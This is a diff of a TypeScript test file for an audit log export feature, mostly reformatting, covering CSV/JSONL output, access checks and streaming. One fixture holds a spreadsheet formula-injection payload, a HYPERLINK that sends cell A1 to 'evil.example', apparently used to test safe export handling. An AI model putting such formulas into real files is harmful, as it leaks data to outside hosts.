@@ -3,11 +3,15 @@ import { and, eq } from "drizzle-orm";
 import { describe, expect, it } from "vitest";
 import { getDb } from "@/lib/db/client";
 import { auditEvents } from "@/lib/db/schema";
-import { countingSelects, insertAuditEvents, insertBulkAuditEvents } from "@/lib/testing/audit-log-test-support";
+import {
+  countingSelects,
+  insertAuditEvents,
+  insertBulkAuditEvents,
+} from "@/lib/testing/audit-log-test-support";
 import { signedInClaims } from "@/lib/testing/console-session-test-support";
 import { createTestOrganization } from "@/lib/testing/factories";
-import { auditExportStream } from "./audit-export-stream";
 import { AUDIT_EXPORT_COLUMNS } from "./audit-export-record";
+import { auditExportStream } from "./audit-export-stream";
 import { exportAuditLog } from "./export-audit-log";
 
 const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';
@@ -36,7 +40,7 @@ async function setUp() {
       targetType: "api_client",
       targetId: "lkc_export",
       ip: "192.0.2.5",
-      details: { name: "Export, \"quoted\"\nand two lines", changes: { name: { from: "+1 old", to: "@new" } } },
+      details: { name: 'Export, "quoted"\nand two lines', changes: { name: { from: "+1 old", to: "@new" } } },
       createdAt: new Date("2026-04-01T10:00:00.000Z"),
     },
   ]);
@@ -73,7 +77,9 @@ describe("audit log export", () => {
     const text = await response.text();
     const [header, ...rows] = parse(text) as string[][];
     expect(header).toEqual([...AUDIT_EXPORT_COLUMNS]);
-    const records = rows.map((row) => Object.fromEntries(header?.map((name, index) => [name, row[index]]) ?? []));
+    const records = rows.map((row) =>
+      Object.fromEntries(header?.map((name, index) => [name, row[index]]) ?? []),
+    );
     expect(records.map((record) => record.id)).toEqual(events.map((event) => event.id));
 
     const [refused, updated] = records;
@@ -112,19 +118,36 @@ describe("audit log export", () => {
     expect(response.headers.get("content-type")).toBe("application/jsonl; charset=utf-8");
     const text = await response.text();
     expect(text.endsWith("\n")).toBe(true);
-    const lines = text.trimEnd().split("\n").map((line) => JSON.parse(line));
+    const lines = text
+      .trimEnd()
+      .split("\n")
+      .map((line) => JSON.parse(line));
     expect(lines.map((line) => line.id)).toEqual([events[1]?.id, events[0]?.id]);
-    expect(lines[1]).toMatchObject({ actor_label: FORMULA, details: events[0]?.details, reason_label: "Wrong secret" });
+    expect(lines[1]).toMatchObject({
+      actor_label: FORMULA,
+      details: events[0]?.details,
+      reason_label: "Wrong secret",
+    });
     expect(Object.keys(lines[0])).toEqual([...AUDIT_EXPORT_COLUMNS]);
 
-    const filtered = await exportAuditLog(exportRequest("format=jsonl&outcome=denied"), await signedInClaims(tenant.admin));
-    expect((await filtered.text()).trimEnd().split("\n").map((line) => JSON.parse(line).id)).toEqual([events[0]?.id]);
+    const filtered = await exportAuditLog(
+      exportRequest("format=jsonl&outcome=denied"),
+      await signedInClaims(tenant.admin),
+    );
+    expect(
+      (await filtered.text())
+        .trimEnd()
+        .split("\n")
+        .map((line) => JSON.parse(line).id),
+    ).toEqual([events[0]?.id]);
   });
 
   it("audits the export itself: who, which format, which filters", async () => {
     const { tenant } = await setUp();
     const claims = await signedInClaims(tenant.admin, "192.0.2.44");
-    await (await exportAuditLog(exportRequest("format=csv&outcome=denied&q=refused&pageSize=25"), claims)).text();
+    await (
+      await exportAuditLog(exportRequest("format=csv&outcome=denied&q=refused&pageSize=25"), claims)
+    ).text();
     const [exported] = await exportedEvents(tenant.organization.id);
     expect(exported).toMatchObject({
       actorType: "user",
@@ -141,8 +164,16 @@ describe("audit log export", () => {
     const cases: Array<[Request, Parameters<typeof exportAuditLog>[1], number]> = [
       [exportRequest("format=csv"), null, 401],
       [exportRequest("format=csv"), await signedInClaims(tenant.member), 403],
-      [exportRequest("format=csv", { "sec-fetch-site": "cross-site" }), await signedInClaims(tenant.admin), 403],
-      [exportRequest("format=csv", { "sec-fetch-site": "same-site" }), await signedInClaims(tenant.admin), 403],
+      [
+        exportRequest("format=csv", { "sec-fetch-site": "cross-site" }),
+        await signedInClaims(tenant.admin),
+        403,
+      ],
+      [
+        exportRequest("format=csv", { "sec-fetch-site": "same-site" }),
+        await signedInClaims(tenant.admin),
+        403,
+      ],
       [exportRequest("format=xlsx"), await signedInClaims(tenant.admin), 400],
     ];
     for (const [request, claims, status] of cases) {
@@ -152,8 +183,11 @@ describe("audit log export", () => {
     }
     expect(await exportedEvents(tenant.organization.id)).toEqual([]);
     // Typed into the address bar (Sec-Fetch-Site: none) or from a client that sends none, it works.
-    for (const headers of [{ "sec-fetch-site": "none" }, {}]) {
-      const response = await exportAuditLog(exportRequest("format=csv", headers), await signedInClaims(tenant.admin));
+    for (const headers of [{ "sec-fetch-site": "none" }, {}] as Record<string, string>[]) {
+      const response = await exportAuditLog(
+        exportRequest("format=csv", headers),
+        await signedInClaims(tenant.admin),
+      );
       expect(response.status).toBe(200);
       await response.text();
     }
@@ -163,7 +197,12 @@ describe("audit log export", () => {
     const tenant = await createTestOrganization();
     await insertBulkAuditEvents(tenant.organization.id, 25_000);
     const { executor, selects } = countingSelects(await getDb());
-    const stream = auditExportStream(executor, tenant.organization.id, {}, { format: "jsonl", order: "desc" });
+    const stream = auditExportStream(
+      executor,
+      tenant.organization.id,
+      {},
+      { format: "jsonl", order: "desc" },
+    );
     const reader = stream.getReader();
     const decoder = new TextDecoder();
     const first = await reader.read();
